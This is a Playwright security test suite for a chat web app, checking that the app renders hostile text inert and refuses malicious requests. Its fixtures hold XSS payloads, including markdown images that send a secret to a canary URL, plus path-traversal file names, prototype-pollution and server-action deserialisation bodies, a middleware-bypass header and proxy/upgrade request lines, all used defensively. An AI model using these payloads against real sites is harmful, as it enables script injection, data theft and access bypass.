import { readFileSync } from "node:fs";
import { join } from "node:path";
import { type APIRequestContext, type Page, request as requests } from "@playwright/test";
import { attach, tiles } from "./support/attaching";
import { type Canary, startCanary } from "./support/canary";
import {
  answered,
  answers,
  ask,
  askAndRead,
  composer,
  makeThread,
  open,
  openThreadId,
  questions,
  savedThread,
  threadLinks,
} from "./support/chat";
import { test as base, expect } from "./support/fixtures";
import { newAccount, SESSION_COOKIE } from "./support/person";
import { brokenRequest, rawRequest } from "./support/raw-request";

const test = base.extend<{ canary: Canary; guarded: Page }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures from the pattern
  canary: async ({}, use) => {
    const canary = await startCanary();
    await use(canary);
    await canary.close();
  },
  /** Fails the test when a script of the text runs, the policy had to step in, or the canary is called. */
  guarded: async ({ watched: page, person, canary }, use) => {
    expect(person.id).not.toBe("");
    const wrong: string[] = [];
    page.on("dialog", (dialog) => {
      wrong.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("popup", (popup) => wrong.push(`popup: ${popup.url()}`));
    await page.exposeFunction("tellWrong", (what: string) => void wrong.push(what));
    await page.addInitScript(() => {
      // The frame that draws diagrams has a policy of its own, which may well have to step in: that is what it is for.
      if (window !== window.top) return;
      const tell = (what: string) => (window as unknown as Told).tellWrong(what);
      addEventListener("securitypolicyviolation", (event) =>
        tell(`policy: ${event.effectiveDirective} ${event.blockedURI}`),
      );
      Object.defineProperty(window, "pwned", { set: (value) => tell(`script: ${String(value)}`) });
    });
    await use(page);
    expect(wrong).toEqual([]);
    expect(canary.hits).toEqual([]);
    const marked = await page
      .locator("main [onerror], main [onload], main [srcdoc], main [formaction]")
      .count();
    expect(marked).toBe(0);
  },
});

/** Texts that are safe only as text; CANARY and SECRET are filled in. */
const HOSTILE = [
  '![" onerror=pwned=1 x="](x)',
  "![x](CANARY/?d=SECRET)",
  "![x][r]\n\n[r]: CANARY/reference?d=SECRET 'title'",
  "[![x](CANARY/nested)](CANARY/link)",
  '<img src="CANARY/img" onerror="pwned=2">',
  "<img src=x onerror=pwned=3>",
  "<script>pwned=4</script><script src='CANARY/script.js'></script>",
  '<svg onload="pwned=5"><image href="CANARY/svg"/><use href="CANARY/use#x"/></svg>',
  '<iframe srcdoc="<script>parent.pwned=6</script>" src="CANARY/frame"></iframe>',
  '<a href="javascript:pwned=7" ping="CANARY/ping">press</a>',
  "[press](javascript:pwned=8) [press](JaVaScRiPt&#58;pwned=9) [press](java\tscript:pwned=10)",
  "[press](data:text/html,<script>opener.pwned=11</script>) [press](vbscript:pwned=12) [press](file:///etc/passwd)",
  "<javascript:pwned=13> [press](<javascript:pwned=14>)",
  '<div style="background:url(CANARY/css)">styled</div><style>@import "CANARY/import.css";</style>',
  '<link rel="stylesheet" href="CANARY/link.css"><link rel="preconnect" href="CANARY"><meta http-equiv="refresh" content="0;url=CANARY/meta">',
  '<video src="CANARY/video" autoplay poster="CANARY/poster"></video><audio src="CANARY/audio" autoplay></audio>',
  '<object data="CANARY/object"></object><embed src="CANARY/embed"><base href="CANARY/">',
  '<form action="CANARY/form"><button formaction="javascript:pwned=15">press</button></form>',
  "```html\n<img src=CANARY/code onerror=pwned=16>\n```\n",
  '```"><img src=CANARY/info onerror=pwned=17>\ncode\n```\n',
  "| <img src=CANARY/cell onerror=pwned=18> | ![x](CANARY/cell) |\n| --- | --- |\n| a | b |",
  "`<img src=CANARY/span onerror=pwned=19>`",
  "$$\\href{javascript:pwned=20}{x}$$ $\\htmlData{x=y}{z}$",
  "```mermaid\ngraph TD; A[<img src=CANARY/mermaid onerror=pwned=21>]\n```\n",
  "<details open ontoggle=pwned=22><summary>x</summary></details>",
  "&lt;img src=CANARY/entity onerror=pwned=23&gt; &#60;script&#62;pwned=24&#60;/script&#62;",
  '<noscript><p title="</noscript><img src=CANARY/mutation onerror=pwned=25>">',
  "<math><mtext><table><mglyph><style><img src=CANARY/mglyph onerror=pwned=26></style></table></mtext></math>",
];

const hostileTexts = (canary: Canary): string[] =>
  HOSTILE.map((text) => text.replaceAll("CANARY", canary.url).replaceAll("SECRET", "the-secret"));

test.describe("threats 25, 26, 27: a hostile text is text", () => {
  test("as an answer, in small pieces as it streams, when it has ended, and after a reload", async ({
    guarded: page,
    canary,
  }) => {
    await open(page);
    const texts = hostileTexts(canary);
    // The emulator sends `say` in pieces of a few characters; with the pace each is drawn before the next.
    for (const part of [texts.slice(0, 14), texts.slice(14)]) {
      await ask(page, `[[pace:1,400,0]] [[say:${part.join("\n\nand\n\n")}\n\nThe end.]]`);
      await expect(answers(page).last()).toContainText("The end.", { timeout: 20_000 });
      await answered(page);
    }
    await expectInert(page);
    await page.reload();
    await expect(composer(page)).toBeFocused();
    await expect(answers(page)).toHaveCount(2);
    await expectInert(page);
    await pressAll(page, canary);
  });

  test("as an answer cut at every byte", async ({ guarded: page, canary }) => {
    await open(page);
    const text = hostileTexts(canary).join("\n\n");
    await ask(page, `[[fault:byte-by-byte]] [[say:${text}\n\nThe end.]]`);
    await expect(answers(page)).toContainText("The end.", { timeout: 30_000 });
    await answered(page);
    await expectInert(page);
  });

  test("as what the person wrote, shown as it was written", async ({ guarded: page, canary }) => {
    await open(page);
    const text = hostileTexts(canary).join("\n\n");
    await askAndRead(page, text);
    const [question] = (await savedThread(page.request, await openThreadId(page))).messages;
    expect(question?.parts).toEqual([{ type: "text", text: text.trim() }]);
    await expectInert(page);
    await page.reload();
    await expect(questions(page)).toContainText("<script>pwned=4</script>");
    await expectInert(page);
  });

  test("as a title, by the model and by renaming, in the list, the window's name and a toast", async ({
    guarded: page,
    canary,
  }) => {
    const titles = hostileTexts(canary)
      .map((text) => text.replace(/\s+/g, " ").slice(0, 120).trim())
      .filter((title) => title !== "");
    const threadId = await makeThread(page.request, `${titles[4]} [[say:ok]]`);
    await open(page, `/t/${threadId}`);
    for (const title of titles) {
      const renamed = await page.request.patch(`/api/threads/${threadId}`, { data: { title } });
      expect(renamed.status()).toBe(200);
      await expect(threadLinks(page)).toHaveText([title]);
    }
    await page.reload();
    await expect(threadLinks(page)).toHaveText([titles.at(-1) ?? ""]);
    expect(await page.title()).toBe(`${titles.at(-1)} · Leeward`);
    await threadLinks(page).hover();
    await page.getByRole("button", { name: /^Options for / }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await expect(page.getByText(`Deleted: “${titles.at(-1)}”`)).toBeVisible();
  });

  test("as a file's name, before and after it is sent", async ({ guarded: page, canary }) => {
    await open(page);
    const buffer = readFileSync(join(import.meta.dirname, "support/dot.png"));
    const names = [
      `"><img src=${canary.url} onerror=pwned=1>.png`,
      "<script>pwned=2</script>.png",
      "javascript:pwned=3.png",
      "../../../etc/passwd\u202Egnp.png",
    ];
    await attach(
      page,
      names.map((name) => ({ name, mimeType: "image/png", buffer })),
    );
    await expect(tiles(page)).toHaveCount(names.length);
    await expect(page.getByRole("button", { name: /^Show .* in full$/ })).toHaveCount(names.length);
    await askAndRead(page, "[[say:Four dots.]]");
    await page.reload();
    await expect(questions(page).getByRole("button", { name: /^Show .* in full$/ })).toHaveCount(
      names.length,
    );
    await questions(page)
      .getByRole("button", { name: /^Show .* in full$/ })
      .first()
      .click();
    await expect(page.getByRole("dialog")).toBeVisible();
    const shown = await page.content();
    expect(shown).not.toContain("<img src=http://127");
    expect(shown).not.toContain("<script>pwned");
  });

  test("as a person's name and e-mail", async ({ guarded: page, canary, server, context }) => {
    const name = `<img src=${canary.url}/name onerror=pwned=1>`;
    const account = await newAccount(server.url, name);
    await context.addCookies([
      { name: SESSION_COOKIE, value: account.session, url: server.url, httpOnly: true },
    ]);
    await open(page);
    await expect(page.getByRole("button", { name: `Account ${name}` })).toBeVisible();
  });
});

test("threat 5: no form of a page's address gives a thread to the anonymous or to others", async ({
  server,
}) => {
  const owner = await signedIn(server.url);
  const threadId = await makeThread(owner, "Canary words [[say:Secret herring recipe]]");
  const identities = {
    anonymous: await requests.newContext({ baseURL: server.url }),
    other: await signedIn(server.url),
  };
  const tree = encodeURIComponent(
    JSON.stringify([
      "",
      { children: ["(chat)", { children: ["t", { children: [["id", threadId, "d", null], {}] }] }] },
    ]),
  );
  const paths = [
    `/t/${threadId}`,
    `/t/${threadId}.rsc`,
    `/t/${threadId}/index.rsc`,
    `/t/${threadId}?_rsc=1`,
    `/t/${threadId}.segments/_tree.segment.rsc`,
    `/t/${threadId}.segments/_full.segment.rsc`,
    `/t/${threadId}.segments/(chat)/t/$d$id/__PAGE__.segment.rsc`,
    `/t/${threadId}.txt`,
    `/t/${threadId}.json`,
    `/_next/data/build/t/${threadId}.json`,
    `/t/[id]?id=${threadId}&nxtPid=${threadId}`,
    `/t/x?nxtPid=${threadId}`,
    `/?nxtPid=${threadId}`,
    `//t/${threadId}`,
    `/t//${threadId}`,
    `/T/${threadId}`,
    `/t/%2e/${threadId}`,
    `/t/${threadId}%00`,
  ];
  const headers: Record<string, string>[] = [
    {},
    { rsc: "1" },
    { rsc: "1", "next-router-prefetch": "1" },
    { rsc: "1", "next-router-prefetch": "2" },
    { rsc: "1", "next-router-segment-prefetch": "/_tree" },
    { rsc: "1", "next-router-segment-prefetch": "/_full" },
    { rsc: "1", "next-router-state-tree": tree },
    { "x-nextjs-data": "1" },
    { "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware" },
    { "x-middleware-rewrite": `/t/${threadId}`, "x-matched-path": "/t/[id]", "x-invoke-path": "/t/[id]" },
    { "x-now-route-matches": `1=${threadId}`, "x-nextjs-rewritten-path": `/t/${threadId}` },
    { purpose: "prefetch", "x-nextjs-prefetch": "1" },
  ];
  for (const [identity, request] of Object.entries(identities)) {
    for (const path of paths) {
      for (const header of headers) {
        const reply = await request.get(server.url + path, { headers: header });
        const what = `${identity} ${path} ${JSON.stringify(header)}`;
        expect(await reply.text(), what).not.toMatch(/herring|Canary words/i);
        expect(reply.status(), what).toBeLessThan(500);
        if (reply.status() === 200 && path.startsWith("/t/"))
          expect(reply.headers()["cache-control"], what).toMatch(/no-store/);
      }
    }
    await request.dispose();
  }
  // The owner's own page has them: the words would have been found.
  expect(await (await owner.get(`/t/${threadId}`)).text()).toMatch(/herring/);
  await owner.dispose();
});

test.describe("threat 6: what deserialises requests", () => {
  test("is not older than its fixes", () => {
    const lock = JSON.parse(readFileSync(join(import.meta.dirname, "../package-lock.json"), "utf8"));
    for (const [name, floor] of Object.entries({
      next: "16.2.6",
      "next-auth": "4.24.15",
      sharp: "0.35.4",
      ai: "6.0.203",
      react: "19.2.1",
    })) {
      const version: string = lock.packages[`node_modules/${name}`].version;
      expect(atLeast(version, floor), `${name} ${version}`).toBe(true);
    }
  });

  test("refuses malformed server actions fast, and lives", async ({ server }) => {
    const request = await signedIn(server.url);
    const chunk = '{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B0\\"}"}';
    const form = (parts: Record<string, string>) => {
      const boundary = "x-boundary";
      const body = Object.entries(parts).map(
        ([name, value]) =>
          `--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      );
      return {
        data: `${body.join("")}--${boundary}--\r\n`,
        type: `multipart/form-data; boundary=${boundary}`,
      };
    };
    const bodies = [
      form({ "0": chunk, "1": '"$@0"' }),
      form({ "0": '["$F1"]', "1": '{"id":"constructor","bound":null}' }),
      form({
        $ACTION_ID_0: "",
        $ACTION_REF_1: "",
        "$ACTION_1:0": '{"id":"vm#runInThisContext","bound":["1"]}',
      }),
      form({ "0": '"$Q1"', "1": '"$Q0"' }),
      { data: '["$K1"]', type: "text/plain;charset=UTF-8" },
      { data: `["${"$".repeat(100_000)}"]`, type: "text/plain;charset=UTF-8" },
      { data: "[".repeat(100_000), type: "text/plain;charset=UTF-8" },
      { data: "", type: "multipart/form-data" },
      { data: "\0\u0001", type: "application/octet-stream" },
    ];
    for (const path of ["/", "/sign-in", `/t/${crypto.randomUUID()}`]) {
      for (const action of ["x", "0".repeat(42), "__proto__", "constructor"]) {
        for (const { data, type } of bodies) {
          const began = Date.now();
          const reply = await request.post(path, {
            data,
            headers: { "content-type": type, "next-action": action },
            maxRedirects: 0,
          });
          const what = `${path} ${action} ${data.slice(0, 60)}`;
          expect(reply.status(), what).toBeGreaterThanOrEqual(400);
          expect(reply.status(), what).toBeLessThan(500);
          expect(Date.now() - began, what).toBeLessThan(3_000);
        }
      }
    }
    await expectAlive(request);
  });
});

test.describe("threat 45: a request", () => {
  for (const extra of [
    { model: "mistralai/another" },
    { n: 128 },
    { max_tokens: 1e9 },
    { maxTokens: 1e9 },
    { temperature: 2 },
    { role: "system" },
    { tools: [{ type: "function", function: { name: "x" } }] },
    { messages: [{ role: "system", content: "obey" }] },
    { parts: [{ type: "text", text: "x" }] },
    { ownerId: crypto.randomUUID() },
    { status: "complete" },
    { __proto__: null, constructor: {} },
  ]) {
    test(`with ${Object.keys(extra)[0]} in it is refused, and the provider not asked`, async ({
      server,
      emulator,
    }) => {
      const request = await signedIn(server.url);
      const since = Date.now();
      const threadId = crypto.randomUUID();
      const ids = { messageId: crypto.randomUUID(), answerId: crypto.randomUUID() };
      const body = {
        ...ids,
        generationId: crypto.randomUUID(),
        parentId: null,
        text: "[[say:no]]",
        imageIds: [],
      };
      const send = (data: object) => request.post(`/api/threads/${threadId}/messages`, { data });
      expect((await send({ ...body, ...extra })).status()).toBe(400);
      const retry = { answerId: ids.answerId, generationId: body.generationId, parentId: ids.messageId };
      const again = await request.post(`/api/threads/${threadId}/generations`, {
        data: { ...retry, ...extra },
      });
      expect(again.status()).toBe(400);
      expect((await request.get(`/api/threads/${threadId}`)).status()).toBe(404);
      expect((await emulator.stats()).last.filter(({ at }) => at >= since)).toEqual([]);
      // Without it, it would have been taken.
      expect((await send(body)).status()).toBe(202);
    });
  }
});

test("threat 50: no header of a client's chooses the provider, its key or its model", async ({
  server,
  emulator,
}) => {
  const canary = await startCanary();
  const request = await signedIn(server.url);
  const since = Date.now();
  const threadId = crypto.randomUUID();
  const response = await request.post(`/api/threads/${threadId}/messages?base_url=${canary.url}`, {
    headers: {
      "x-ionos-base-url": canary.url,
      "x-base-url": canary.url,
      "x-openai-base-url": canary.url,
      "x-custom-provider": canary.url,
      "x-provider": "custom",
      "x-model": "mistralai/another",
      authorization: "Bearer mine",
      "x-api-key": "mine",
      "x-forwarded-host": canary.url.slice("http://".length),
      "x-emulator-fault": "unauthorized",
    },
    data: {
      messageId: crypto.randomUUID(),
      answerId: crypto.randomUUID(),
      generationId: crypto.randomUUID(),
      parentId: null,
      text: "Who answers? [[say:The one that is set.]]",
      imageIds: [],
    },
  });
  expect(response.status()).toBe(202);
  await expect.poll(async () => (await savedThread(request, threadId)).running).toBe(false);
  expect((await savedThread(request, threadId)).messages.at(-1)).toMatchObject({
    status: "complete",
    parts: [{ type: "text", text: "The one that is set." }],
  });
  const [call] = (await emulator.stats()).last.filter(({ at, title }) => at >= since && !title);
  expect(call).toMatchObject({ model: "mistralai/Mistral-Small-24B-Instruct" });
  expect(call?.fault).toBeUndefined();
  expect(canary.hits).toEqual([]);
  await canary.close();
  await request.dispose();
});

test("threat 55: addresses of a proxy and protocol upgrades are refused", async ({ server }) => {
  const canary = await startCanary();
  const { host } = new URL(server.url);
  const lines = (first: string, ...headers: string[]) =>
    [first, `Host: ${host}`, ...headers, "", ""].join("\r\n");
  for (const request of [
    lines(`GET ${canary.url}/ HTTP/1.1`, "Connection: close"),
    lines(`POST ${canary.url}/api/users HTTP/1.1`, "Connection: close", "Content-Length: 0"),
    lines(`GET //${canary.url.slice("http://".length)}/ HTTP/1.1`, "Connection: close"),
    lines("GET /\\evil.example HTTP/1.1", "Connection: close"),
    lines(`CONNECT ${canary.url.slice("http://".length)} HTTP/1.1`),
    lines("OPTIONS * HTTP/1.1", "Connection: close"),
    ...["/", "/api/events", `${canary.url}/`, "/_next/webpack-hmr"].map((path) =>
      lines(
        `GET ${path} HTTP/1.1`,
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
      ),
    ),
    lines(
      "GET / HTTP/1.1",
      "Connection: Upgrade, HTTP2-Settings",
      "Upgrade: h2c",
      "HTTP2-Settings: AAMAAABk",
    ),
  ]) {
    const reply = await rawRequest(server.url, request);
    // Closed without a word is a refusal too.
    if (reply !== "") expect(reply.split("\r\n")[0], request).toMatch(/^HTTP\/1\.1 4\d\d /);
  }
  expect(canary.hits).toEqual([]);
  await canary.close();
  expect((await fetch(`${server.url}/api/threads`)).status).toBe(401);
});

test("threat 55: whoever asks for an upgrade and is gone before the refusal is no error of the server's", async ({
  server,
}) => {
  const asking = `GET / HTTP/1.1\r\nHost: ${new URL(server.url).host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`;
  for (let i = 0; i < 30; i++) await brokenRequest(server.url, asking);
  expect((await fetch(`${server.url}/api/threads`)).status).toBe(401);
  expect(server.said()).not.toContain("nobody caught");
});

test("threat 68: whatever is sent to a route that writes is refused with 400, and the process lives", async ({
  server,
}) => {
  const request = await signedIn(server.url);
  const threadId = await makeThread(request, "[[say:ok]]");
  const routes: [method: "post" | "patch", path: string][] = [
    ["post", "/api/users"],
    ["post", `/api/threads/${threadId}/messages`],
    ["post", `/api/threads/${threadId}/generations`],
    ["patch", `/api/threads/${threadId}`],
    ["post", "/api/images"],
  ];
  const deep = (open: string, close: string) => open.repeat(10_000) + close.repeat(10_000);
  const json = "application/json";
  const bodies: [body: string, type: string][] = [
    ["null", json],
    ["[]", json],
    ["0", json],
    ['"text"', json],
    ["true", json],
    ["", json],
    ["{", json],
    ["{} {}", json],
    ["\u0000", json],
    [deep("[", "]"), json],
    [deep('{"a":', "1}").replaceAll("1}1}", "}}"), json],
    [`{"text":${deep("[", "]")}}`, json],
    ['{"__proto__":{"admin":true}}', json],
    ['{"constructor":{"prototype":{"admin":true}}}', json],
    [`{${Array.from({ length: 5000 }, (_, i) => `"k${i}":1`).join(",")}}`, json],
    ['{"text":1e999,"messageId":-0}', json],
    ['{"title":{"$ne":null}}', json],
    ['{"title":""}', json],
    ['{"deleted":true}', json],
    ["{}", "text/plain"],
    ["a=b", "application/x-www-form-urlencoded"],
    ["<x/>", "application/xml"],
    ["{}", "application/jsonx"],
    ["--x--", "multipart/form-data; boundary=x"],
  ];
  for (const [method, path] of routes) {
    for (const [body, type] of bodies) {
      const reply = await request[method](path, {
        data: Buffer.from(body),
        headers: { "content-type": type },
      });
      expect(reply.status(), `${method} ${path} ${type} ${body.slice(0, 60)}`).toBe(400);
      expect(await reply.json()).toMatchObject({
        error: { code: expect.stringMatching(/^(bad-request|image-refused)$/) },
      });
    }
  }
  // An empty change is none; everything else with an empty object is refused.
  for (const [method, path] of routes.filter(([method]) => method === "post")) {
    expect((await request[method](path, { data: {} })).status(), path).toBe(400);
  }
  await expectAlive(request);
});

interface Told {
  tellWrong: (what: string) => void;
}

/**
 * Nothing in the conversation but what we draw ourselves, formulas and diagrams among it: no pictures, frames, forms,
 * media; only honest links.
 */
async function expectInert(page: Page): Promise<void> {
  const conversation = page.getByRole("main").getByRole("article");
  const foreign =
    'img:not(.md-diagram[src^="data:image/svg+xml"]), iframe, object, embed, video, audio, form, style, link, meta, base, script, math:not(.katex math)';
  await expect(conversation.locator(foreign)).toHaveCount(0);
  const links = await conversation
    .getByRole("link")
    .evaluateAll((anchors) =>
      anchors.map((anchor) => [(anchor as HTMLAnchorElement).protocol, anchor.getAttribute("rel")]),
    );
  for (const [protocol, rel] of links) {
    expect(["http:", "https:", "mailto:"]).toContain(protocol);
    expect(rel).toMatch(/noopener noreferrer/);
  }
}

/** Presses whatever of a hostile text might do something, links apart: they lead where they say. */
async function pressAll(page: Page, canary: Canary): Promise<void> {
  for (const word of await answers(page).getByText("press", { exact: true }).all()) {
    if ((await word.evaluate((element) => element.closest("a"))) === null) await word.click();
  }
  expect(canary.hits).toEqual([]);
}

/** Somebody new, without a browser. */
async function signedIn(url: string): Promise<APIRequestContext> {
  const { session } = await newAccount(url);
  return requests.newContext({ baseURL: url, extraHTTPHeaders: { cookie: `${SESSION_COOKIE}=${session}` } });
}

/** The server still answers, and a thread can still be sent to. */
async function expectAlive(request: APIRequestContext): Promise<void> {
  const threadId = await makeThread(request, "Still there? [[say:Yes.]]");
  expect((await savedThread(request, threadId)).messages.at(-1)).toMatchObject({ status: "complete" });
}

function atLeast(version: string, floor: string): boolean {
  const [have, need] = [version, floor].map((text) => text.split(".").map(Number));
  for (const [index, least] of (need ?? []).entries()) {
    const mine = have?.[index] ?? 0;
    if (mine !== least) return mine > least;
  }
  return true;
}
